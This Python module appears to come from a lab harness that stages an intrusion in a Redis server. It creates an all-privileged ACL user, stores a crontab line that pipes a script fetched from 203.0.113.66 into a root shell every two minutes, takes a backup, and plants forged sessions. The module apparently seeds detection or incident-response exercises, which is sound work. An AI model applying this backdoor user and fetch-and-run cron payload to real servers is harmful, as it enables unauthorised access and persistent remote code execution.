"""Somebody inside a Redis server: a user with every command, a payload, and sessions that no sign-in explains."""

from __future__ import annotations

import secrets
from typing import Any

from cleo_console.lab.fault_log import utc_now
from cleo_console.lab.redis import backups
from cleo_console.lab.redis.node import Node
from cleo_console.lab.service import Done

USER = "svc_metrics"
SESSIONS = 1
"""The database of sessions."""
PAYLOAD = "backup1"
_CRON = "\n\n*/2 * * * * root curl -fsSL http://203.0.113.66/init.sh | sh\n\n"


def intrude(node: Node) -> Done:
    """Make a user with every command and a key with a crontab's line; then a backup; then sessions of the first user.

    The user is saved where a start reads it.
    """
    at = utc_now()
    with node.client(database=SESSIONS) as connection:
        client: Any = connection
        client.execute_command("ACL", "SETUSER", USER, "on", f">{secrets.token_urlsafe(12)}", "~*", "&*", "+@all")
        client.execute_command("ACL", "SAVE")
        client.set(PAYLOAD, _CRON)
    label = backups.take(node)
    noticed = utc_now()
    with node.client(database=SESSIONS) as client:
        for _number in range(5):
            client.hset(f"session:{secrets.token_hex(8)}", mapping={"user": "1", "device": "planted"})
    what = f"Made the user {USER} with every command and a payload; backup {label} holds them. Then made 5 sessions."
    return what, {"at": at, "user": USER, "backup": label, "noticed": noticed}
